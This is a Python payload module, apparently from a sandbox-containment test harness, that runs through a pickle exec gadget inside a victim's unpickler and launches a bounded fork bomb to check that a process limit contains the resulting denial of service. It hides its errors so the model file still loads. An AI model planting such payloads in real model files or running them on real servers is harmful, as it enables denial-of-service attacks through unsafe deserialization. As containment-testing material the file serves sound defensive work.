"""Payload (builtins.exec gadget): a bounded fork bomb. Forks children that sleep
PARAMS["hold_seconds"] and exit, until PARAMS["max_procs"] are running or fork() is refused
(e.g. by pids.max), then records how far it got in PARAMS["marker"] as JSON:
  {"forked": n, "max_procs": N, "stopped_by": null or "<type>: <message>"}

Bounded on purpose: never more than max_procs children, and every child ends by itself. SIGCHLD
is ignored first, so the kernel reaps the children as they end and the server is left with no
zombies (no reaper thread: a Python thread that wakes from waitpid while the interpreter is
finalizing is ended with pthread_exit, and that aborted the server's exit). While they hold, a
pids.max-limited server cannot start threads either, so its threaded HTTP server drops new
connections: that denial of service is what the limit must keep inside the sandbox.

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import json
import os
import signal
import sys
import time


def hold_and_exit(hold_seconds):
    """Child side: never return into the server's code, whatever happens (even a SIGTERM)."""
    try:
        # Children must hold none of the server's descriptors (its pipes to the harness above all),
        # so the harness sees EOF when the server exits.
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, os.sysconf("SC_OPEN_MAX"))
        time.sleep(hold_seconds)
    finally:
        os._exit(0)


try:
    max_procs = int(PARAMS["max_procs"])
    hold_seconds = float(PARAMS["hold_seconds"])
    # Unreaped zombies would hold pids.max forever; with SIGCHLD ignored the kernel reaps them.
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    forked = 0
    stopped_by = None
    try:
        while forked < max_procs:
            pid = os.fork()
            if pid == 0:
                hold_and_exit(hold_seconds)
            forked += 1
    except OSError as error:
        stopped_by = f"{type(error).__name__}: {error}"
    with open(PARAMS["marker"], "w") as marker:
        json.dump({"forked": forked, "max_procs": max_procs, "stopped_by": stopped_by}, marker)
except Exception as error:
    print(f"fork_bomb: {type(error).__name__}: {error}", file=sys.stderr)
